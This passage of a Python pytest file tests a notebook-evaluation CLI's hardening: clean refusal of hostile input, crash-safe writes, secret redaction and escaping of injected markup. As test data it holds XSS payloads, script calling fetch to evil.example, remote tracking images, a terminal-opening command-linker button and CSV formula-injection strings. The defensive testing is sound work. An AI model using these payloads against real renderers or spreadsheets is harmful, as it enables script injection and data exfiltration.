            "--verify-source", f"{f.probes[0]}={second}"]


SECRET = "sk-ABCDEFGHIJKLMNOPQRSTUVWX1234"

def with_metadata(f: Flow, d: Path, metadata: str) -> list[Any]:
    """JSON Lines import of the first evidence row with its metadata replaced by this JSON text."""
    row = json.loads(evidence(f, d).read_text(encoding="utf-8").splitlines()[0])
    row["metadata"] = "@META@"
    (d / "e.jsonl").write_text(json.dumps(row).replace('"@META@"', metadata) + "\n", encoding="utf-8")
    return import_jsonl(f, d, d / "e.jsonl", d / "out.json")


# Metadata the user wrote that the evidence table cannot keep as it is: refused, never dropped or nulled.
METADATA = [
    Hostile("jsonl-metadata-nested-object", "data-loss", lambda f, d: with_metadata(f, d, '{"a": {"b": 1}}'),
            "e.jsonl", r"line 1\.metadata\.a: must be a scalar .*nested objects and lists are not kept"),
    Hostile("jsonl-metadata-list", "data-loss", lambda f, d: with_metadata(f, d, '{"a": [1, 2]}'),
            "e.jsonl", r"line 1\.metadata\.a: must be a scalar"),
    Hostile("jsonl-metadata-1e999", "data-loss", lambda f, d: with_metadata(f, d, '{"a": 1e999}'),
            "e.jsonl", r"line 1\.metadata\.a: must be a finite number"),
    Hostile("jsonl-metadata-minus-1e999", "data-loss", lambda f, d: with_metadata(f, d, '{"z": 1, "a": -1e999}'),
            "e.jsonl", r"line 1\.metadata\.a: must be a finite number"),
    Hostile("csv-metadata-column-1e999", "data-loss",
            lambda f, d: import_csv(f, d, csv_evidence(f, d, "e.csv", header_extra=",metadata.a",
                                                       row_extra=",1e999")),
            "e.csv", r"metadata\.a: must be a finite number"),
]

# One harness file vouching twice, and pydantic's "Value error, " prefix in the one-line message.
INTEGRITY = [
    Hostile("verify-source-same-file-twice", "integrity", lambda f, d: verify_twice(f, d, evidence(f, d)),
            None, r"--verify-source: is given twice"),
    Hostile("verify-source-hard-link-twice", "integrity",
            lambda f, d: verify_twice(f, d, link(d, "again.jsonl", evidence(f, d).name, hard=True)),
            "again.jsonl", r"--verify-source: is given twice \(the same file as .*\.jsonl\)"),
    Hostile("verify-source-symlink-twice", "integrity",
            lambda f, d: verify_twice(f, d, link(d, "alias.jsonl", evidence(f, d).name)),
            "alias.jsonl", r"--verify-source: is given twice"),
    Hostile("profile-flag-secret-no-pydantic-prefix", "integrity",
            lambda f, d: ["eval-profile", "create", "--profile-id", SECRET, "--output", d / "out.json"],
            None, r"--profile-id: looks like a secret"),
    Hostile("edited-profile-secret-no-pydantic-prefix", "integrity",
            lambda f, d: plan_cmd(d, d / "out.json") if text_edit(
                d, "profile.json", "profile.json", '"profile_id": "', f'"profile_id": "{SECRET}') else [],
            "profile.json", r"profile_id: looks like a secret"),
]

CASES: list[Hostile] = [*DATA_LOSS, *TRACEBACKS, *METADATA, *INTEGRITY]


def test_the_table_is_broad() -> None:
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[f"{c.family}:{c.id}" for c in CASES])
def test_hostile_input_is_refused_cleanly(case: Hostile, golden: Flow, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    flow, d = prepare(golden, tmp_path)
    argv = case.argv(flow, d)
    before = snapshot(d)
    if case.fault is not None:
        case.fault(monkeypatch, d)
    result = cli(argv)
    monkeypatch.undo()
    after = snapshot(d)
    lines = result.stderr.splitlines()
    assert result.code == case.code, f"exit {result.code}; stderr: {result.stderr!r}"
    assert len(lines) == 1 and "Traceback" not in result.stderr + result.stdout, result.stderr
    if case.file is not None:
        assert case.file in lines[0], f"message does not name {case.file}: {lines[0]!r}"
    if case.field is not None:
        assert re.search(case.field, lines[0]), f"message does not name {case.field}: {lines[0]!r}"
    assert ".wfnb-tmp" not in lines[0] and "Value error," not in lines[0]
    assert after == before, "the refused command changed the folder: " + ", ".join(
        sorted(set(before) ^ set(after) | {k for k in before if k in after and before[k] != after[k]}))


def test_a_character_device_is_never_replaced(tmp_path: Path, golden: Flow) -> None:
    flow, d = prepare(golden, tmp_path)
    result = cli(render_plan(d, "/dev/null"))
    assert result.code == 2 and "/dev/null: is a character device" in result.stderr
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_export_creates_its_folder_owner_only(tmp_path: Path) -> None:
    folder = tmp_path / "new" / "export"
    files_module.make_private_folder(folder)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


# ------------------------------------------------------------------------------------------------
# All or none under kill -9, Ctrl-C and a concurrent writer: real processes
# ------------------------------------------------------------------------------------------------

CHILD = """
import os, signal, sys
from worldflux_nb.io import files
from worldflux_nb.cli import main
mode = sys.argv[1]
# Ctrl-C as at a terminal: a suite started in the background (`&` without job control, nohup)
# hands its children SIGINT ignored, and Python then installs no handler of its own.
signal.signal(signal.SIGINT, signal.default_int_handler)
real_replace, real_write = os.replace, files._write_file
state = {{"replaced": 0, "written": 0}}
def replace(src, dst):
    real_replace(src, dst)
    state["replaced"] += 1
    if mode == "kill-between-renames" and state["replaced"] == 1:
        os.kill(os.getpid(), signal.SIGKILL)
def write(path, data):
    real_write(path, data)
    state["written"] += 1
    if state["written"] == 1 and mode == "kill-while-staging":
        os.kill(os.getpid(), signal.SIGKILL)
    if state["written"] == 1 and mode == "ctrl-c-while-staging":
        os.kill(os.getpid(), signal.SIGINT)
files.os.replace = replace
files._write_file = write
sys.exit(main(sys.argv[2:]))
"""


def child(mode: str, argv: list[Any]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", textwrap.dedent(CHILD.format()), mode, *map(str, argv)],
                          capture_output=True, text=True, timeout=120)


def packet_pair(d: Path) -> tuple[str, str]:
    """The digest packet.json carries and the one packet.md names: one command's pair agrees."""
    digest = json.loads((d / "out.json").read_text(encoding="utf-8"))["packet_digest"]
    return digest, (d / "out.md").read_text(encoding="utf-8")


def test_kill_between_two_renames_is_finished_by_the_next_writer(golden: Flow, tmp_path: Path) -> None:
    flow, d = prepare(golden, tmp_path)
    (d / "out.md").write_text("old packet.md\n")
    (d / "out.json").write_text('{"old": true}\n')
    proc = child("kill-between-renames", packet(flow, d, d / "out.md", d / "out.json"))
    assert proc.returncode == -signal.SIGKILL
    assert any(p.name.startswith(".wfnb-commit-") for p in d.iterdir())  # the journal survived
    # Any later command writing into the folder finishes the commit before its own.
    assert cli(render_plan(d, d / "later.md")).code == 0
    assert json.loads((d / "out.json").read_text())["schema_version"] == "worldflux_nb.eval_packet.v1"
    assert (d / "out.md").read_text() != "old packet.md\n"
    assert not [p for p in d.iterdir() if p.name.endswith(".wfnb-tmp") or p.name.startswith(".wfnb-commit-")]


def test_kill_while_staging_leaves_earlier_outputs_and_no_temp_files(golden: Flow, tmp_path: Path) -> None:
    flow, d = prepare(golden, tmp_path)
    before = snapshot(d)
    proc = child("kill-while-staging", packet(flow, d, d / "out.md", d / "out.json"))
    assert proc.returncode == -signal.SIGKILL
    left = [p.name for p in d.iterdir() if p.name.endswith(".wfnb-tmp")]
    assert left, "the kill was meant to land while a file was staged"
    assert {k: v for k, v in snapshot(d).items() if not k.endswith(".wfnb-tmp")} == before
    assert cli(render_plan(d, d / "later.md")).code == 0
    assert not [p for p in d.iterdir() if p.name.endswith(".wfnb-tmp")]
    assert snapshot(d)["out.md"] == before["out.md"] and snapshot(d)["out.json"] == before["out.json"]


def test_ctrl_c_exits_130_with_one_line_and_no_temp_files(golden: Flow, tmp_path: Path) -> None:
    flow, d = prepare(golden, tmp_path)
    before = snapshot(d)
    proc = child("ctrl-c-while-staging", packet(flow, d, d / "out.md", d / "out.json"))
    assert proc.returncode == 130, proc.stderr
    assert len(proc.stderr.splitlines()) == 1 and "interrupted" in proc.stderr and "Traceback" not in proc.stderr
    assert snapshot(d) == before


def test_two_concurrent_packets_leave_one_commands_pair(golden: Flow, tmp_path: Path) -> None:
    flow, d = prepare(golden, tmp_path)
    # The two commands differ (one interval each), so a mixed pair would show.
    commands = [[sys.executable, "-m", "worldflux_nb", *map(str, packet(flow, d, d / "out.md", d / "out.json")),
                 "--interval", interval] for interval in ("wilson", "clopper-pearson")]
    procs = [subprocess.Popen(c, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for c in commands]
    assert [p.wait(timeout=120) for p in procs] == [0, 0]
    digest, markdown = packet_pair(d)
    assert digest in markdown or digest[:19] in markdown


# ------------------------------------------------------------------------------------------------
# A run folder survives a later run that fails, is interrupted or is killed (kernels: slow)
# ------------------------------------------------------------------------------------------------

def run_notebook_file(path: Path) -> Path:
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell("limit = 5\noutput_dir = 'out'\nnap = 0", metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell("import pathlib, time\nout = pathlib.Path(output_dir)\n"
                                  "(out / 'sample_evidence').mkdir(exist_ok=True)\n"
                                  "(out / 'sample_evidence' / 'rows.jsonl').write_text(f'limit {limit}')\n"
                                  "time.sleep(nap)"),
        nbformat.v4.new_code_cell("assert limit < 10, f'limit {limit} is too big'\n"
                                  "(out / 'packet.json').write_text(f'packet {limit}')"),
    ]
    nbformat.write(nb, path)
    return path


@pytest.mark.slow
def test_a_failed_rerun_leaves_the_earlier_run_untouched(tmp_path: Path) -> None:
    source, out = run_notebook_file(tmp_path / "t.ipynb"), tmp_path / "run"
    assert cli(["notebook", "run", source, "--output-dir", out]).code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    good = snapshot(out)
    failed = cli(["notebook", "run", source, "--output-dir", out, "-p", "limit", "12"])
    assert failed.code == 1 and "earlier run in this folder is left as it was" in failed.stderr
    after = snapshot(out)
    assert after.pop("t.failed.ipynb")
    assert after == good


@pytest.mark.slow
def test_a_killed_rerun_is_undone_by_the_next_run(tmp_path: Path) -> None:
    source, out = run_notebook_file(tmp_path / "t.ipynb"), tmp_path / "run"
    assert cli(["notebook", "run", source, "--output-dir", out]).code == 0
    good = snapshot(out)
    proc = subprocess.Popen([sys.executable, "-m", "worldflux_nb", "notebook", "run", str(source),
                             "--output-dir", str(out), "-p", "limit", "7", "-p", "nap", "60"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    marker = out / "sample_evidence" / "rows.jsonl"
    for _ in range(600):
        try:  # the run being killed moves the earlier run's copy aside, so the file can vanish mid-poll
            if marker.read_text() == "limit 7":
                break
        except FileNotFoundError:
            pass
        subprocess.run(["sleep", "0.1"])
    else:
        pytest.fail("the rerun never reached its long cell")
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    assert (out / ".wfnb-previous-run").is_dir()  # the earlier run, set aside
    failed = cli(["notebook", "run", source, "--output-dir", out, "-p", "limit", "12"])
    assert failed.code == 1
    after = snapshot(out)
    after.pop("t.failed.ipynb")
    assert after == good


def _gone(pid: int) -> bool:
    """The process has exited (a zombie nobody reaped yet counts as gone)."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return True
    return state in ("Z", "X")


@pytest.mark.slow
@pytest.mark.parametrize("earlier", [True, False], ids=["over-a-good-run", "into-a-new-folder"])
def test_ctrl_c_in_a_long_cell_stops_the_kernel_at_once(tmp_path: Path, earlier: bool) -> None:
    """Ctrl-C while a cell sleeps: exit 130 within seconds (nbclient used to wait for the cell), one
    error line, the kernel killed, no sample_evidence/ or audit_inputs/ left, an earlier run untouched."""
    source, out = run_notebook_file(tmp_path / "t.ipynb"), tmp_path / "run"
    nb = nbformat.read(source, as_version=4)
    nb.cells[1].source += f"\nimport os\npathlib.Path({str(tmp_path / 'kernel.pid')!r}).write_text(str(os.getpid()))"
    nb.cells[1].source = nb.cells[1].source.replace("time.sleep(nap)", "") + "\n(out / 'audit_inputs').mkdir()\ntime.sleep(nap)"
    nbformat.write(nb, source)
    if earlier:
        assert cli(["notebook", "run", source, "--output-dir", out]).code == 0
        (tmp_path / "kernel.pid").unlink()
    good = snapshot(out) if earlier else None
    proc = subprocess.Popen([sys.executable, "-m", "worldflux_nb", "notebook", "run", str(source),
                             "--output-dir", str(out), "-p", "limit", "7", "-p", "nap", "300"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    for _ in range(1200):
        if (tmp_path / "kernel.pid").exists() and (tmp_path / "kernel.pid").read_text():
            break
        subprocess.run(["sleep", "0.1"])
    kernel = int((tmp_path / "kernel.pid").read_text())
    proc.send_signal(signal.SIGINT)
    try:
        _, stderr = proc.communicate(timeout=60)  # the cell would sleep 300 s: only a prompt stop ends here
    finally:
        proc.kill()
    errors = [line for line in stderr.splitlines() if line.startswith("error:") or "Traceback" in line]
    assert proc.returncode == 130, stderr
    assert errors == [stderr.splitlines()[-1]] and "interrupted" in errors[0], stderr
    for _ in range(100):
        if _gone(kernel):
            break
        subprocess.run(["sleep", "0.1"])
    assert _gone(kernel), "the kernel outlived the interrupted run"
    if earlier:
        assert snapshot(out) == good
    else:
        assert not out.exists()
    assert not list(Path(tempfile.gettempdir()).glob(f"worldflux-nb-kernel-{proc.pid}-*"))


@pytest.mark.slow
def test_a_run_started_with_ctrl_c_ignored_keeps_ignoring_it(tmp_path: Path) -> None:
    """`nohup` or a script's `&` starts the run with SIGINT ignored: one arriving mid-cell neither kills
    the kernel nor ends the run (nbclient's own handler on the loop would have ended it)."""
    source, out = run_notebook_file(tmp_path / "t.ipynb"), tmp_path / "run"
    nb = nbformat.read(source, as_version=4)
    nb.cells[1].source += f"\nimport os\npathlib.Path({str(tmp_path / 'kernel.pid')!r}).write_text(str(os.getpid()))"
    nb.cells[1].source = nb.cells[1].source.replace("time.sleep(nap)", "") + "\ntime.sleep(nap)"
    nbformat.write(nb, source)
    proc = subprocess.Popen([sys.executable, "-m", "worldflux_nb", "notebook", "run", str(source),
                             "--output-dir", str(out), "-p", "nap", "4"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_IGN))
    for _ in range(1200):
        if (tmp_path / "kernel.pid").exists() and (tmp_path / "kernel.pid").read_text():
            break
        subprocess.run(["sleep", "0.1"])
    proc.send_signal(signal.SIGINT)
    try:
        _, stderr = proc.communicate(timeout=120)
    finally:
        proc.kill()
    assert proc.returncode == 0, stderr
    assert (out / "packet.json").read_text() == "packet 5"


def test_an_out_of_protocol_row_with_any_axis_makes_a_packet(golden: Flow, tmp_path: Path) -> None:
    flow, d = prepare(golden, tmp_path)
    row = json.loads(evidence(flow, d).read_text(encoding="utf-8").splitlines()[0])
    odd = {**row, "axis": "Weird Axis!/" + "x" * 300, "level": "Level Two <b>!", "episode_index": 999}
    (d / "e.jsonl").write_text(evidence(flow, d).read_text(encoding="utf-8") + json.dumps(odd) + "\n")
    assert cli(import_jsonl(flow, d, d / "e.jsonl", d / "a.json")).code == 0
    result = cli(["eval-portfolio", "packet", "--plan", d / "plan.json", "--audit-input", f"{flow.probes[0]}={d / 'a.json'}",
                  "--output", d / "p.md", "--packet-json", d / "p.json"])
    assert result.code == 0, result.stderr
    flagged = json.loads((d / "p.json").read_text())["flagged_episodes"]
    assert any(e["axis"].startswith("Weird Axis!/") and len(e["axis"]) <= 128 for e in flagged)


# ------------------------------------------------------------------------------------------------
# Leaks: every secret shape through every channel
# ------------------------------------------------------------------------------------------------

from secret_shapes import ALL as ALL_SHAPES, SHAPES  # noqa: E402

from worldflux_nb.cli import without_secrets  # noqa: E402
from worldflux_nb.core.importers.common import Redactor  # noqa: E402
from worldflux_nb.core.importers.run_folder import classify  # noqa: E402
from worldflux_nb.io.evidence_files import source_file  # noqa: E402
from worldflux_nb.io.notebook_runner import contains_secret_value  # noqa: E402
from worldflux_nb.models.packet import FlaggedEpisode  # noqa: E402
from worldflux_nb.models.redaction import is_secret_kind, redact_text  # noqa: E402

PATH_SHAPES = {"home_path", "mac_home_path", "mac_volume", "windows_path", "escaped_windows_path", "tilde_path",
               "file_url", "backticked_path"}


def _metadata_value(text: str) -> str:
    return json.dumps(Redactor().metadata({"note": text}, "m"))


def _metadata_pair(needle: str) -> str:
    return json.dumps(Redactor().metadata({"client_secret": needle, "api_token": needle}, "m"))


def _row_names(text: str) -> str:
    rows = [{"task_id": text, "axis": text, "level": text if len(text) <= 64 else "1", "harness_task": text}]
    Redactor().names(rows)  # type: ignore[arg-type]
    return json.dumps(rows)


def _flagged(text: str) -> str:
    flag = FlaggedEpisode(category="out_of_protocol", probe_id="libero", task_id=text, axis=text, level=text,
                          episode_index=0, seed=None, success=None, status=None)
    return flag.model_dump_json()


def _source_file_name(text: str) -> str:
    return source_file(text, b"{}").model_dump_json()


def _run_folder_entry(text: str) -> str:
    entry = classify(f"runs/{text}/eval_info.json", 2, b"{}")
    assert is_secret_kind(entry.secret_kinds[0]) if entry.secret_kinds else True
    return json.dumps([entry.path, entry.detail])


def _error_line(text: str) -> str:
    return without_secrets(f"error: run.json: metadata.note: {text!r} is not allowed")


LEAK_CHANNELS: dict[str, Callable[[str], str]] = {
    "metadata-value": _metadata_value, "metadata-key-value-pair": _metadata_pair, "row-task-axis-level": _row_names,
    "flagged-episode": _flagged, "source-file-name": _source_file_name, "run-folder-name": _run_folder_entry,
    "error-line": _error_line,
    # Text shown inside an HTML output (a printed dict in a table cell): its quotes are entities.
    "html-escaped-text": lambda text: redact_text(html_module.escape(text))[0],
}
LEAK_CASES = [(channel, kind) for channel in LEAK_CHANNELS for kind in SHAPES
              if not (channel == "error-line" and kind in PATH_SHAPES)  # an error line must name its file
              and not (channel == "metadata-key-value-pair" and kind in PATH_SHAPES)
              # a file or folder name cannot hold a slash
              and not (channel in ("source-file-name", "run-folder-name") and "/" in SHAPES[kind][0])]


@pytest.mark.parametrize(("channel", "kind"), LEAK_CASES, ids=[f"leak:{c}:{k}" for c, k in LEAK_CASES])
def test_no_secret_shape_leaks_through_a_channel(channel: str, kind: str) -> None:
    text, needle = SHAPES[kind]
    # A key/value pair carries the bare value under a key that names a secret.
    written = LEAK_CHANNELS[channel](needle if channel == "metadata-key-value-pair" else text)
    assert needle not in written, written
    assert "[REDACTED:" in written


@pytest.mark.parametrize("kind", [k for k in SHAPES if k not in PATH_SHAPES])
def test_a_notebook_parameter_holding_a_secret_is_refused(kind: str, tmp_path: Path) -> None:
    assert contains_secret_value(SHAPES[kind][0]) and contains_secret_value({"path": SHAPES[kind][0]})
    result = cli(["notebook", "run", "--output-dir", tmp_path / "nb", "-p", "custom_contract", SHAPES[kind][0]])
    assert result.code == 2 and "custom_contract: looks like a secret" in result.stderr
    assert SHAPES[kind][1] not in result.stderr and not (tmp_path / "nb").exists()


def test_600_kb_adversarial_strings_redact_in_linear_time() -> None:
    """Quadratic rules took 25 s on 40 KB (issue 11); linear ones take well under a second on a
    quiet machine. The bound is generous (loaded CI), the sizes not: 600 KB each."""
    import time

    for unit in ("http://a?", "a", "password=", '"token": "', "/home/", "-----BEGIN RSA PRIVATE KEY-----",
                 "x?sig=", "a://b:", "eyJ", "~/"):
        text = (unit * (600_000 // len(unit) + 1))[:600_000]
        start = time.perf_counter()
        redact_text(text)
        assert time.perf_counter() - start < 60, unit


def test_every_shape_in_every_evidence_channel_stays_out_of_every_written_byte(golden: Flow, tmp_path: Path) -> None:
    """One import, packet and brief with every shape planted in metadata values, key/value pairs,
    out-of-protocol axis and level, harness task names mapped with --task-map, and the harness file's
    name; then every byte the commands wrote is searched for every needle."""
    flow, d = prepare(golden, tmp_path)
    rows = [json.loads(line) for line in evidence(flow, d).read_text(encoding="utf-8").splitlines()]
    for i, row in enumerate(rows):
        text = list(SHAPES.values())[i % len(SHAPES)][0]
        row["metadata"] = {**row["metadata"], "note": ALL_SHAPES, "client_secret": "PairLeakyValue0123456",
                           "api_token": "PairLeakyToken0123456", text[:100]: "key-shaped"}
    odd = [{**rows[0], "episode_index": 900 + i, "axis": text.replace("\n", " ")[:120],
            "level": text if len(text) <= 64 else 1}
           for i, (text, _) in enumerate(SHAPES.values())]
    mapped = [{**rows[0], "task_id": "hf_LeakyMappedTaskName0123456789abcdefgh", "episode_index": 800}]
    source = d / "eval_hf_LeakyFileNameToken0123456789abcdef.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in rows + odd + mapped), encoding="utf-8")
    before = set(snapshot(d))
    result = cli(import_jsonl(flow, d, source, d / "a.json", "--task-map",
                              f"hf_LeakyMappedTaskName0123456789abcdefgh={rows[0]['task_id']}"))
    assert result.code == 0, result.stderr
    assert cli(["eval-portfolio", "packet", "--plan", d / "plan.json", "--audit-input",
                f"{flow.probes[0]}={d / 'a.json'}", "--output", d / "p.md", "--packet-json", d / "p.json"]).code == 0
    assert cli(["eval-portfolio", "reviewer-brief", "--packet", d / "p.json", "--output", d / "b.md",
                "--brief-json", d / "b.json"]).code == 0
    written = {name: (d / name).read_bytes() for name in set(snapshot(d)) - before}
    assert set(written) == {"a.json", "p.md", "p.json", "b.md", "b.json"}
    needles = [n for n in (*(n for _, n in SHAPES.values()), "PairLeakyValue0123456", "PairLeakyToken0123456",
                           "LeakyMappedTaskName", "LeakyFileNameToken")]
    leaks = [(name, n) for name, data in written.items() for n in needles if n.encode() in data]
    assert leaks == []


# ------------------------------------------------------------------------------------------------
# Injection: every payload x every output format
# ------------------------------------------------------------------------------------------------

import mistune  # noqa: E402

from conftest import REFERENCE_PROFILE_ARGS  # noqa: E402

from worldflux_nb.escaping import csv_cell, markdown_cell, markdown_text  # noqa: E402
from worldflux_nb.io.allowlist import clean_html, clean_markdown, clean_svg  # noqa: E402

# name -> (payload, a regular expression that must not match the rendered HTML)
INJECTIONS: dict[str, tuple[str, str]] = {
    "script": ("<script>alert(1)</script>", r"<script"),
    "img-onerror": ("<img src=x onerror=alert(2)>", r"<img"),
    "javascript-link": ("[click](javascript:alert(3))", r'href="javascript:'),
    "remote-image": ("![t](https://evil.example/p.png)", r"<img"),
    "table-break": ("</table><p>forged</p>", r"</table><p>forged"),
    "command-linker": ('<button data-commandlinker-command="terminal:create-new">go</button>', r"<button"),
    "forged-heading": ("ok\n# Verdict: APPROVED", r"<h\d[^>]*>\s*Verdict"),
    "svg-onload": ("<svg/onload=alert(4)>", r"<svg"),
    "iframe": ('<iframe src="https://evil.example"></iframe>', r"<iframe"),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', r"<meta"),
    "form-action": ('<form action="https://evil.example"><input name=q></form>', r"<form"),
    "setext-heading": ("Verdict\n===", r"<h1[^>]*>\s*Verdict"),
    "terminal-escape": ("\x1b[2J\x1b]0;pwned\x07", r"[\x1b\x07]"),
    "nul-byte": ("a\x00b", r"\x00"),
    "bidi-override": ("\u202eDEVORPPA\u2066", r"[\u202e\u2066]"),
}
ALL_INJECTIONS = " ".join(payload for payload, _ in INJECTIONS.values())


@pytest.fixture(scope="module")
def injected_flow(tmp_path_factory: pytest.TempPathFactory) -> Flow:
    from hardening_support import build_flow

    args = list(REFERENCE_PROFILE_ARGS)
    for flag in ("--use-case", "--claim-intent", "--reviewer-next-action"):
        args[args.index(flag) + 1] = ALL_INJECTIONS
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", "1767225600")
        return build_flow(tmp_path_factory.mktemp("injected"), profile_args=args)


MARKDOWN_DOCUMENTS = ("plan.md", "packet.md", "reviewer_brief.md")
INJECTION_CASES = [(doc, name) for doc in (*MARKDOWN_DOCUMENTS, "packet.html", "brief.text-markdown")
                   for name in INJECTIONS]


def rendered(flow: Flow, doc: str) -> str:
    """The document as a reader's renderer shows it: Markdown through mistune (raw HTML kept, as
    GitHub and Jupyter would pass it on), HTML as it is."""
    from worldflux_nb.io.artifacts import load
    from worldflux_nb.models import EvalPacket, ReviewerBrief

    if doc == "packet.html":
        return load(flow.folder / "packet.json", EvalPacket)._repr_mimebundle_()["text/html"]
    if doc == "brief.text-markdown":
        text = load(flow.folder / "reviewer_brief.json", ReviewerBrief)._repr_mimebundle_()["text/markdown"]
    else:
        text = (flow.folder / doc).read_text(encoding="utf-8")
    return mistune.html(text)


@pytest.mark.parametrize(("doc", "name"), INJECTION_CASES, ids=[f"inject:{d}:{n}" for d, n in INJECTION_CASES])
def test_injected_markup_stays_text_in_every_format(injected_flow: Flow, doc: str, name: str) -> None:
    html = rendered(injected_flow, doc)
    assert "Verdict" in html  # the text is there, shown as text
    assert not re.search(INJECTIONS[name][1], html, re.IGNORECASE), name


@pytest.mark.parametrize("name", INJECTIONS)
def test_escaping_functions_neutralise_each_payload(name: str) -> None:
    payload, danger = INJECTIONS[name]
    for escaped in (markdown_text(payload), markdown_cell(payload)):
        assert not re.search(danger, mistune.html(escaped), re.IGNORECASE)
        assert "\n" not in escaped
    assert "|" not in markdown_cell("a|b").replace("\\|", "")


@pytest.mark.parametrize("value", ["=HYPERLINK(\"https://evil\")", "+1+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
                                   "\tx", "\r=1", "\uff1dcmd()"])
def test_csv_cells_never_start_a_formula(value: str) -> None:
    assert csv_cell(value).startswith("'")
    assert csv_cell("-1.5") == "-1.5" and csv_cell(7) == 7 and csv_cell("libero_spatial/6") == "libero_spatial/6"


# Markup the share allowlist must remove: (name, HTML or Markdown, what must not survive).
SHARE_HTML = {
    "srcset": ('<img srcset="https://evil.example/a.png 1x">', "evil.example"),
    "video-poster": ('<video poster="https://evil.example/p.png"></video>', "evil.example"),
    "table-background": ('<table background="https://evil.example/b.png"><tr><td>x</td></tr></table>', "evil.example"),
    "css-image-set": ('<div style="background-image: image-set(\'https://evil.example/a.png\' 1x)">x</div>', "evil.example"),
    "css-url": ('<div style="background: url(https://evil.example/a.png)">x</div>', "evil.example"),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "evil.example"),
    "form-action": ('<form action="https://evil.example"><button>go</button></form>', "evil.example"),
    "entity-encoded-js": ('<a href="jav&#x61;script:alert(1)">x</a>', "alert(1)"),
    "backslash-url": ('<img src="\\\\evil.example\\a.png">', "evil.example"),
    "href-javascript": ('<a href="javascript:alert(1)">x</a>', "javascript:"),
    "svg-onload": ("<svg/onload=alert(1)>", "onload"),
    "svg-feimage": ('<svg><filter><feImage href="https://evil.example/a.png"/></filter></svg>', "evil.example"),
    "remote-img": ('<img src="https://evil.example/p.gif">', "evil.example"),
    "script": ("<script>fetch('https://evil.example')</script>", "<script"),
    "iframe": ('<iframe src="https://evil.example"></iframe>', "evil.example"),
    "onerror": ('<img src="data:image/png;base64,AAAA" onerror="alert(1)">', "onerror"),
    "object": ('<object data="https://evil.example/x.swf"></object>', "evil.example"),
    "base": ('<base href="https://evil.example/">', "evil.example"),
    "link-stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">', "evil.example"),
    "style-import": ("<style>@import 'https://evil.example/x.css';</style>", "evil.example"),
}
SHARE_MARKDOWN = {
    "md-script": ("hello <script>fetch('https://evil.example')</script>", "<script"),
    "md-remote-image": ("![pixel](https://evil.example/p.gif)", "evil.example"),
    "md-reference-image": ("![pixel][r]\n\n[r]: https://evil.example/p.gif", "evil.example/p.gif"),
    "md-img-tag": ('<img src="https://evil.example/p.gif">', "evil.example"),
    "md-js-link": ("[x](javascript:alert(1))", "javascript:"),
    "md-command-linker": ('<button data-commandlinker-command="terminal:create-new">x</button>', "commandlinker"),
}


@pytest.mark.parametrize("name", SHARE_HTML)
def test_the_share_allowlist_removes_each_html_attack(name: str) -> None:
    markup, forbidden = SHARE_HTML[name]
    assert forbidden not in clean_html(markup) and forbidden not in clean_svg(markup)


@pytest.mark.parametrize("name", SHARE_MARKDOWN)
def test_the_share_allowlist_removes_each_markdown_attack(name: str) -> None:
    markup, forbidden = SHARE_MARKDOWN[name]
    assert forbidden not in mistune.html(clean_markdown(markup))


def share_notebook() -> nbformat.NotebookNode:
    """A notebook carrying secrets and remote code in every channel a share copy keeps."""
    secret = SHAPES["github_token"][0]
    nb = nbformat.v4.new_notebook()
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0,
        "state": {
            "esm": {"model_name": "AnyModel", "model_module": "anywidget", "model_module_version": "0.9.0",
                    "state": {"_esm": "import * as x from 'https://evil.example/mod.js'; export default {}"}},
            "html": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                     "model_module_version": "2.0.0",
                     "state": {"value": '<img src="https://evil.example/w.png"> ' + secret}}}}}
    md = nbformat.v4.new_markdown_cell(f"see ![a](attachment:{secret}.png) <script>x()</script> "
                                       "![r](https://evil.example/r.png)")
    md["attachments"] = {f"{secret}.png": {"image/png": "iVBORw0KGgo=", "text/html": "<script>x()</script>"}}
    md["id"] = secret.replace("_", "-")[:60]
    code = nbformat.v4.new_code_cell("print(creds)", metadata={"password": "LeakyCellMetaPass0123"})
    code.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="{'password': 'LeakyPrintedDict0123'}\n"),
        nbformat.v4.new_output("display_data", data={
            "application/json": "not json at all " + secret,
            "text/html": "<table><tr><th>api_key</th><td>LeakyHtmlCell0123456</td></tr></table>",
            "text/plain": "x"}),
        nbformat.v4.new_output("display_data", data={"application/json": {"client_secret": "LeakyJsonOut0123"}}),
        nbformat.v4.new_output("display_data", data={"application/ecmascript": "fetch('https://evil.example')",
                                                     "text/plain": "y"}),
        nbformat.v4.new_output("display_data", data={"application/vnd.vegalite.v5+json": {
            "mark": "image", "data": {"values": [{"u": "https://evil.example/i.png"}]},
            "encoding": {"url": {"field": "u"}}}, "text/plain": "chart"}),
    ]
    nb.cells = [md, code]
    return nb


SHARE_NEEDLES = {
    "token-in-attachment-name-cell-id-widget": SHAPES["github_token"][1],
    "cell-metadata-pair": "LeakyCellMetaPass0123", "printed-dict": "LeakyPrintedDict0123",
